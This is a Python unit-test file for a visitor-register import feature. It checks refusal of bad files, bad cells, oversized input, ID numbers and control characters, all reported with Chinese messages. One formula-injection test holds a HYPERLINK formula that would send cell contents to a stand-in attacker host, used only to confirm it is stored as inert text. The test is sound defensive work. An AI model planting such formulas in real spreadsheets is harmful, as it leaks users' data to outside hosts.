"""Bad registers (VIS-6): a clear Chinese message, and nothing written."""
from __future__ import annotations

import csv

import pytest

from app.errors import ValidationError
from app.models.visitors import Visit
from app.files import register_file
from app.services.visitors import register_io
from tests.unit.helpers import fetch, refused

GOOD = ["2026-11-20 10:05", "来访", "林女士", "13912345678", "2", "朋友介绍", "三房", "李一", ""]


def register(tmp_path, *rows, name="in.csv"):
    path = tmp_path / name
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        out = csv.writer(f)
        out.writerow(register_file.COLUMNS)
        out.writerows(rows)
    return str(path)


def with_(**cells):
    row = list(GOOD)
    for column, value in cells.items():
        row[register_file.COLUMNS.index(column)] = value
    return row


def importing(office, path, **kw):
    return register_io.import_logs(office.manager, office.uow(), path=path, **kw)


def test_a_file_that_is_not_a_register_is_refused_in_plain_words_VIS6(office, tmp_path):
    text = tmp_path / "register.txt"
    text.write_text("来访时间,姓名\n", encoding="utf-8")
    with refused(office, ValidationError, match=r"请选择 \.csv、\.xlsx、\.xls 或 \.ods 文件"):
        importing(office, str(text))
    picture = tmp_path / "photo.csv"  # a picture renamed .csv
    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40)
    with refused(office, ValidationError, match="photo.csv.*既不是 UTF-8 也不是 GB18030"):
        importing(office, str(picture))
    fake = tmp_path / "fake.xlsx"
    fake.write_text("来访时间,姓名\n", encoding="utf-8")
    with refused(office, ValidationError, match="fake.xlsx"):
        importing(office, str(fake))


def test_an_empty_file_or_one_without_a_header_is_refused_VIS6(office, tmp_path):
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    with refused(office, ValidationError, match="文件是空的"):
        importing(office, str(empty))
    blank = tmp_path / "blank.csv"
    blank.write_text(",,,\n\n,,\n", encoding="utf-8")
    with refused(office, ValidationError, match="文件是空的"):
        importing(office, str(blank))
    prose = tmp_path / "prose.csv"
    prose.write_text("\n".join(f"第 {n} 行随便写的字" for n in range(30)), encoding="utf-8")
    with refused(office, ValidationError, match="没有列名行"):
        importing(office, str(prose))
    only_header = register(tmp_path, name="header.csv")
    with refused(office, ValidationError, match="表头下没有"):
        importing(office, only_header)


def test_a_missing_required_column_is_named_VIS6(office, tmp_path):
    path = tmp_path / "no_phone.csv"
    path.write_text("客户姓名,来访日期,接待顾问\n王先生,2026-11-20,李一\n", encoding="utf-8")
    with refused(office, ValidationError, match="缺少列：手机"):
        importing(office, str(path))


def test_a_file_over_the_limit_is_refused_before_it_is_read_VIS6(office, tmp_path):
    for name in ("huge.csv", "huge.xlsx"):
        huge = tmp_path / name
        with huge.open("wb") as f:  # sparse: instant, and takes no disk
            f.truncate(register_file.MAX_BYTES + 1)
        with refused(office, ValidationError, match="最大 200 MB"):
            importing(office, str(huge))


@pytest.mark.parametrize(("cells", "said"), [
    ({"来访时间": "2026-02-30 10:00"}, "不存在 2026-02-30 10:00 这个日期"),
    ({"来访时间": "2026/13/01 10:00"}, "不存在"),
    ({"来访时间": "2026-11-20 25:10"}, "不存在"),
    ({"来访时间": "上周五下午"}, "2026-11-23 14:30"),
    ({"来访时间": "2027-01-01 10:00"}, "晚于现在"),
    ({"来访时间": "0001-01-01"}, "日期 0001-01-01 超出本案场可记录的日期范围（2000-01-01 至"),
    ({"来访时间": "1900-01-01 10:00"}, "日期 1900-01-01 超出"),
    ({"来访时间": "1999-12-31 23:59"}, "日期 1999-12-31 超出"),
    ({"手机": "12345"}, "11 位"),
    ({"手机": "没留电话"}, "只能包含数字"),
    ({"手机": "1" * 10_000}, "11 位"),
    ({"人数": "-2"}, "人数"),
    ({"人数": "两个"}, "人数"),
    ({"姓名": "王" * 10_000}, "40"),
    ({"备注": "长" * 10_000}, "1000"),
    ({"意向": "长" * 10_000}, "200"),
    ({"置业顾问": "顾" * 10_000}, "没有名为"),
    ({"类型": "上门"}, "来访"),
], ids=lambda v: str(v)[:30])
def test_a_bad_cell_refuses_its_row_with_a_short_reason_and_writes_nothing_VIS6(office, tmp_path, cells, said):
    path = register(tmp_path, GOOD, with_(**{"姓名": "赵先生", "手机": "13712345678", **cells}))
    result = importing(office, path)
    [rejected] = result.rejected
    assert rejected.row == 3 and said in rejected.reason and len(rejected.reason) < 120
    assert not result.written and fetch(office, Visit) == []  # all or nothing: not even the good row


def test_a_huge_cell_in_a_kept_column_is_refused_too_VIS6(office, tmp_path):
    path = tmp_path / "extra.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([[*register_file.COLUMNS, "交通工具"], [*GOOD, "车" * 10_000]])
    [rejected] = importing(office, str(path)).rejected
    assert "交通工具" in rejected.reason and "1000" in rejected.reason and fetch(office, Visit) == []


def test_formulas_are_imported_as_text_never_run_VIS5_VIS6(office, tmp_path):
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
    path = register(tmp_path, with_(备注=hyperlink, 意向="@SUM(A1:A9)"))
    assert importing(office, path).visits == 1
    [visit] = fetch(office, Visit)
    assert visit.note == hyperlink and visit.intent == "@SUM(A1:A9)"


def test_with_skip_invalid_the_good_rows_go_in_and_each_bad_one_is_named_VIS6(office, tmp_path):
    path = register(tmp_path, GOOD, with_(手机="12345"), with_(来访时间="2026-02-30 10:00", 手机="13712345678"))
    result = importing(office, path, all_or_nothing=False)
    assert result.visits == 1 and [r.row for r in result.rejected] == [3, 4]
    assert [v.name for v in fetch(office, Visit)] == ["林女士"]


def test_a_big_file_is_streamed_never_read_whole_VIS6(tmp_path):
    import tracemalloc

    path = tmp_path / "big.csv"
    line = ",".join(GOOD) + "\n"
    with path.open("w", encoding="utf-8") as f:
        f.write(",".join(register_file.COLUMNS) + "\n")
        f.writelines(line for _ in range(200_000))
    size = path.stat().st_size
    tracemalloc.start()
    try:
        rows = sum(1 for _row in register_file.rows(str(path), register_file.inspect(str(path)).header_row))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rows == 200_000 and size > 15_000_000
    assert peak < size / 20  # a few buffers, not the file


def test_a_gb18030_register_whose_chinese_comes_late_is_still_read_VIS6(office, tmp_path):
    path = tmp_path / "late.csv"
    english = ["Visit time,Type,Name,Phone,Party size,Channel,Intent,Consultant,Note"]
    english += [f"2026-11-{1 + n % 20:02d} {8 + n % 10}:{n % 60:02d},visit,Mr Wang,1390000{n:04d},1,internet,,,"
                for n in range(3000)]  # about 170 KB of ASCII before the first Chinese
    english.append("2026-11-22 15:00,来访,王先生,13812345678,2,朋友介绍,三房,李一,")
    path.write_bytes("\n".join(english).encode("gb18030"))
    assert path.stat().st_size > 2 * 64 * 1024
    done = importing(office, str(path))
    assert done.visits == 3001 and done.rejected == []
    assert [v.channel for v in fetch(office, Visit, name="王先生")] == ["friend"]


def test_a_register_longer_than_a_spreadsheet_is_refused_VIS6(office, tmp_path, monkeypatch):
    from tests.unit.visitors.test_register_import_real import big_register

    monkeypatch.setattr(register_io, "MAX_ROWS", 2000)  # a worksheet's 1,048,575 rows would take a minute to write
    with refused(office, ValidationError, match="超过了电子表格的上限（2000 行）"):
        importing(office, big_register(tmp_path, 2001))
    assert importing(office, big_register(tmp_path, 2000)).visits == 2000


def test_an_office_with_older_registers_lowers_the_earliest_year_and_keeps_their_local_time_VIS6(office, tmp_path):
    from datetime import datetime

    from app import clock
    from app.services import settings

    settings.update(office.manager, office.uow(), {"earliest_year": 1995})
    importing(office, register(tmp_path, with_(**{"来访时间": "1996-03-04 10:00"})))
    [visit] = fetch(office, Visit)
    assert clock.local(visit.arrived_at).replace(tzinfo=None) == datetime(1996, 3, 4, 10, 0)


def test_an_id_number_in_a_mapped_note_or_intent_refuses_its_row_and_one_in_a_kept_column_is_dropped_SEC4(
        office, tmp_path):
    import json

    path = tmp_path / "ids.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow([*register_file.COLUMNS, "客户证件"])
        out.writerow([*with_(**{"备注": "身份证 110101199003071234 已复印"}), ""])
        out.writerow([*with_(**{"姓名": "赵先生", "手机": "13712345678", "意向": "11010119900307123X"}), ""])
        out.writerow([*with_(**{"姓名": "钱女士", "手机": "13612345678"}), "身份证:110101199003071234"])
    result = importing(office, str(path), all_or_nothing=False)
    assert [(r.row, "身份证号" in r.reason) for r in result.rejected] == [(2, True), (3, True)]
    [visit] = fetch(office, Visit)
    assert visit.name == "钱女士" and "110101199003071234" not in (visit.extra or "")
    assert json.loads(visit.extra or "{}") == {}


def test_a_control_character_in_a_kept_column_refuses_its_row_with_the_column_named_REC1_VIS6(office, tmp_path):
    path = tmp_path / "extra.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([[*register_file.COLUMNS, "交通工具"], [*GOOD, "自驾\x1b[31m"]])
    [rejected] = importing(office, str(path)).rejected
    assert "交通工具" in rejected.reason and "U+001B" in rejected.reason and fetch(office, Visit) == []
